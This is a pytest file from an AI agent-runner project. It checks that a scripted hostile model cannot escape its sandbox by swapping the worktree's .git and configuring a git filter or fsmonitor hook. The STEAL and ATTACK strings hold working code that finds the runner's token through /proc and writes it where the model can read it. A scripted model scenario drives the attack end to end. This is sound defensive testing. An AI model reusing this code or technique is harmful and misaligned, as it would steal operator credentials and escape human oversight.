"""A tree that tries to steer the runner's own git (issue 22, item 1).

Code the model wrote, run by an allowed command, swaps the worktree's `.git` for a repository
of its own (its objects borrowed from the runner's mirror through `objects/info/alternates`)
whose config runs a program of the model's as a clean filter, a smudge filter or an fsmonitor
hook, with `* filter=x` in `.gitattributes`. Run by the runner's git, that program runs
outside the sandbox as the runner's user: it finds the runner's token file through
`/proc/<ancestor>/cmdline` and writes the token beside the runner's cache and into the tree,
where the model reads it on its next turn.

Three layers are shown: under bubblewrap the tree's `.git` is read-only (a command cannot swap
it); the runner's git (`tether.git.TreeGit`) never reads the tree's `.git` nor runs a filter
even when it was swapped; and end to end, with a real supervisor, runner, bwrap and git and
the scripted model, nothing escapes and the token reaches no file, tool result or transcript.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.agent_repos import make_origin
from tests.runner.test_runner_processes import POOL, Cluster, wait_for
from tether.runner.agent import RepoCache, ToolBox, Workspace, detect_sandbox
from tether.runner.agent.command import run_command
from tether.runner.agent.confine import Confiner

VARIANTS = ("clean", "smudge", "fsmonitor")
PYTHON = sys.executable
FILES = {
    "src/app.py": "def answer():\n    return 41\n",
    "tests/test_app.py": (
        "import sys\n\nsys.path.insert(0, 'src')\n\nfrom app import answer\n\n\n"
        "def test_answer():\n    assert answer() == 42\n"
    ),
}
TEST_COMMAND = f"{PYTHON} -m pytest -q -s -p no:cacheprovider tests"

# Run by the runner's git: steals the token of the nearest ancestor started with
# --token-file, and leaves it beside the runner's cache (never mounted in the sandbox) and in
# the tree; as a filter, passes its input through.
STEAL = """#!@PYTHON@
import os, pathlib, sys

def token():
    pid = os.getppid()
    for _ in range(12):
        try:
            args = pathlib.Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\\0")
            if b"--token-file" in args:
                path = args[args.index(b"--token-file") + 1].decode()
                return pathlib.Path(path).read_text().strip()
            stat = pathlib.Path(f"/proc/{pid}/stat").read_text()
            pid = int(stat.rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    return "no token found"

stolen = token()
pathlib.Path("@CACHE@", "ESCAPED-@VARIANT@").write_text(stolen)
pathlib.Path("@TREE@", "src", "stolen.txt").write_text(stolen)
if "@VARIANT@" != "fsmonitor":
    sys.stdout.buffer.write(sys.stdin.buffer.read())
"""

# src/app.py as the scripted model writes it: what the test wants, and, when imported, the swap.
ATTACK = '''import pathlib

STEAL = """@STEAL@"""


def answer():
    return 42


def _swap(root):
    gitfile = root / ".git"
    mirror = pathlib.Path(gitfile.read_text().split("gitdir:", 1)[1].strip()).parent.parent
    hook = root / "steal.py"
    hook.write_text(
        STEAL.replace("@CACHE@", str(mirror.parent.parent)).replace("@TREE@", str(root))
    )
    hook.chmod(0o755)
    fake = root / "fake-git"
    for sub in ("objects/info", "refs/heads"):
        (fake / sub).mkdir(parents=True, exist_ok=True)
    (fake / "HEAD").write_text("ref: refs/heads/main\\n")
    (fake / "objects/info/alternates").write_text(str(mirror / "objects") + "\\n")
    config = "[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n"
    if "@VARIANT@" == "fsmonitor":
        config += f"\\tfsmonitor = {hook}\\n"
    else:
        config += f'[filter "x"]\\n\\t@VARIANT@ = @PYTHON@ {hook}\\n'
    (fake / "config").write_text(config)
    (root / ".gitattributes").write_text("* filter=x\\n")
    gitfile.unlink()
    fake.rename(gitfile)


try:
    _swap(pathlib.Path.cwd())
    (pathlib.Path.cwd() / "src" / "touched.txt").write_text("touched\\n")
    print("ATTACK: .git swapped")
except OSError as exc:
    print(f"ATTACK: cannot swap .git: {exc}")
'''


def attack(variant: str) -> str:
    """The module the model writes, set up for one `variant` of the hook."""
    steal = STEAL.replace("\\", "\\\\")
    code = ATTACK.replace("@STEAL@", steal)
    return code.replace("@VARIANT@", variant).replace("@PYTHON@", PYTHON)


def escaped(root: Path) -> list[str]:
    return sorted(p.name for p in root.rglob("ESCAPED-*"))


@pytest.fixture
async def workspace(tmp_path: Path) -> AsyncIterator[Workspace]:
    url, base = make_origin(tmp_path / "origin", FILES)
    async with RepoCache(tmp_path / "cache").attempt(url=str(url), base_sha=base, label="t") as ws:
        yield ws


def swap_without_sandbox(ws: Workspace, variant: str) -> None:
    """The attack as a command that no sandbox held back: `.git` is swapped."""
    (ws.tree / "src" / "app.py").write_text(attack(variant))
    ran = subprocess.run(
        [PYTHON, "-c", "import sys; sys.path.insert(0, 'src'); import app"],
        cwd=ws.tree,
        capture_output=True,
        text=True,
        check=True,
    )
    assert "ATTACK: .git swapped" in ran.stdout, ran.stdout + ran.stderr
    assert (ws.tree / ".git").is_dir()


@pytest.mark.parametrize("variant", VARIANTS)
async def test_the_runners_git_runs_nothing_a_swapped_git_names(
    workspace: Workspace, tmp_path: Path, variant: str
) -> None:
    """Every git the runner runs on the tree, after the swap: snapshot, commit, bundle, clean
    checkout, apply, and the tools' search and patch; no hook ran, and the candidate holds the
    bytes on disk."""
    ws = workspace
    swap_without_sandbox(ws, variant)
    box = ToolBox(ws.tree, git=ws.git, home=ws.home, allowed_paths=["src/"], allowed_commands=())
    candidate = await ws.commit(step_id="s", paths=["src"])
    assert candidate is not None
    await ws.write_bundle(ws.io / "c.bundle", candidate)
    found = json.loads((await box.call("search", json.dumps({"pattern": "answer"}))).content)
    assert {m["path"] for m in found["matches"]} >= {"src/app.py"}
    await ws.clean_checkout(candidate)
    patch = "--- a/src/touched.txt\n+++ b/src/touched.txt\n@@ -1 +1 @@\n-touched\n+patched\n"
    patched = await box.call("apply_patch", json.dumps({"patch": patch}))
    assert patched.ok, patched.content
    await ws.clean_checkout(ws.start_sha)
    await ws.apply(candidate)

    assert escaped(tmp_path) == []
    assert not (ws.tree / "src" / "stolen.txt").exists()
    shown = (await ws.git("show", f"{candidate}:src/app.py")).stdout
    assert shown == attack(variant).encode()
    listed = (await ws.git("ls-tree", "-r", "--name-only", candidate)).text.split()
    assert listed == ["src/app.py", "src/touched.txt", "tests/test_app.py"]


async def test_under_bubblewrap_a_command_cannot_swap_the_trees_git(
    workspace: Workspace,
) -> None:
    sandbox = await detect_sandbox([Path(sys.prefix), Path(sys.base_prefix)])
    if not sandbox.isolated:
        pytest.skip("bubblewrap is not installed or cannot create namespaces here")
    ws = workspace
    gitfile = (ws.tree / ".git").read_text()
    (ws.tree / "src" / "app.py").write_text(attack("clean"))
    argv = [PYTHON, "-c", "import sys; sys.path.insert(0, 'src'); import app"]
    ran = await run_command(
        argv,
        tree=ws.tree,
        home=ws.home,
        sandbox=sandbox,
        timeout_s=60,
        output_cap=10_000,
        confiner=Confiner(),
    )
    said = ran.output.decode()
    assert "ATTACK: cannot swap .git: [Errno 16] Device or resource busy" in said, said
    assert (ws.tree / ".git").read_text() == gitfile
    written = await run_command(
        ["sh", "-c", "echo 'gitdir: /tmp/elsewhere' > .git"],
        tree=ws.tree,
        home=ws.home,
        sandbox=sandbox,
        timeout_s=60,
        output_cap=10_000,
        confiner=Confiner(),
    )
    assert written.exit_code != 0
    assert "Read-only file system" in written.output.decode()
    assert (ws.tree / ".git").read_text() == gitfile


@pytest.fixture
def hostile_cluster(tmp_path: Path) -> Iterator[tuple[Cluster, str]]:
    """A supervisor with the repository `app` (tenant acme) and the stand-in model; the
    origin's base SHA."""
    origin, base = make_origin(tmp_path / "origin", FILES)
    cluster = Cluster(tmp_path)
    try:
        cluster.add_repository("app", origin)
        cluster.start_supervisor()
        cluster.start_model()
        yield cluster, base
    finally:
        cluster.stop_all()


def scenario() -> dict[str, Any]:
    """Per variant: write the attack; then for all: run the tests, read what was stolen, done."""
    writes = [
        {
            "name": f"write-{v}",
            "assistant_turns": 0,
            "last_contains": f"variant {v}",
            "tool_calls": [
                {"name": "write_file", "arguments": {"path": "src/app.py", "content": attack(v)}}
            ],
        }
        for v in VARIANTS
    ]
    return {
        "turns": [
            *writes,
            {
                "name": "run",
                "assistant_turns": 1,
                "tool_calls": [{"name": "run", "arguments": {"command": TEST_COMMAND}}],
            },
            {
                "name": "read",
                "assistant_turns": 2,
                "tool_calls": [{"name": "read_file", "arguments": {"path": "src/stolen.txt"}}],
            },
            {"name": "done", "assistant_turns": 3, "text": "done"},
        ]
    }


def submit(cluster: Cluster, base: str, variant: str) -> str:
    payload = {
        "messages": [{"role": "user", "content": f"variant {variant}"}],
        "allowed_commands": [TEST_COMMAND],
        "max_turns": 6,
    }
    plan = {"steps": [{"name": "fix", "kind": "agent", "payload": payload}]}
    body = {
        "idempotency_key": f"hostile-{variant}-{os.getpid()}",
        "plan": plan,
        "pool": POOL,
        "repository": "app",
        "base_sha": base,
        "allowed_paths": ["src/"],
        "checks": {"tests": TEST_COMMAND},
    }
    task = cluster.http.post("/v1/tasks", json=body)
    assert task.status_code == 201, task.text
    approved = cluster.http.post(
        f"/v1/tasks/{task.json()['id']}/approve",
        json={"plan_hash": task.json()["plan_hash"], "base_sha": base},
    )
    assert approved.status_code == 200, approved.text
    return str(task.json()["id"])


@pytest.mark.slow
@pytest.mark.timeout(300)
def test_a_model_that_swaps_git_steals_nothing_through_a_real_runner(
    hostile_cluster: tuple[Cluster, str], tmp_path: Path
) -> None:
    cluster, base = hostile_cluster
    answer = httpx.post(f"{cluster.model_url}/_admin/scenario", json=scenario(), trust_env=False)
    assert answer.status_code == 200, answer.text
    cache = tmp_path / "runner-cache"
    cluster.start_runner(
        "runner-a",
        "--concurrency",
        "3",
        CACHE_DIRECTORY=str(cache),
        PATH=f"{Path(PYTHON).parent}{os.pathsep}{os.environ['PATH']}",
    )
    tasks = {variant: submit(cluster, base, variant) for variant in VARIANTS}

    def ended() -> bool:
        states = [cluster.state(t) for t in tasks.values()]
        return all(s in ("SUCCEEDED", "FAILED", "CANCELLED") for s in states)

    wait_for(ended, "the three tasks to end", 240, cluster)
    token = cluster.runner_token_file.read_text().strip()
    for variant, task_id in tasks.items():
        step = cluster.task(task_id)["steps"][0]
        assert step["output"]["sandbox"] == "bwrap", step["output"]
        transcript = json.dumps(step["output"]["transcript"])
        assert token not in transcript, variant
        assert "ATTACK: cannot swap .git" in transcript, variant
    assert escaped(tmp_path) == []
    holding = [
        str(path)
        for path in tmp_path.rglob("*")
        if path.is_file()
        and path != cluster.runner_token_file
        and token.encode() in path.read_bytes()
    ]
    assert holding == []
    cluster.check_ledger()


async def test_the_tree_is_the_blobs_bytes_whatever_its_attributes_say(tmp_path: Path) -> None:
    """No end-of-line conversion and no `$Id$` expansion, either way: the checkout
    holds each blob's bytes, and a snapshot stores the bytes on disk."""
    files = {
        ".gitattributes": "* text eol=crlf ident\n",
        "src/app.py": "# $Id$\nanswer = 41\n",
    }
    url, base = make_origin(tmp_path / "origin", files)
    async with RepoCache(tmp_path / "cache").attempt(url=str(url), base_sha=base, label="t") as ws:
        assert (ws.tree / "src" / "app.py").read_bytes() == b"# $Id$\nanswer = 41\n"
        (ws.tree / "src" / "app.py").write_bytes(b"# $Id$\r\nanswer = 42\r\n")
        candidate = await ws.commit(step_id="s", paths=["src"])
        assert candidate is not None
        stored = (await ws.git("show", f"{candidate}:src/app.py")).stdout
        assert stored == b"# $Id$\r\nanswer = 42\r\n"
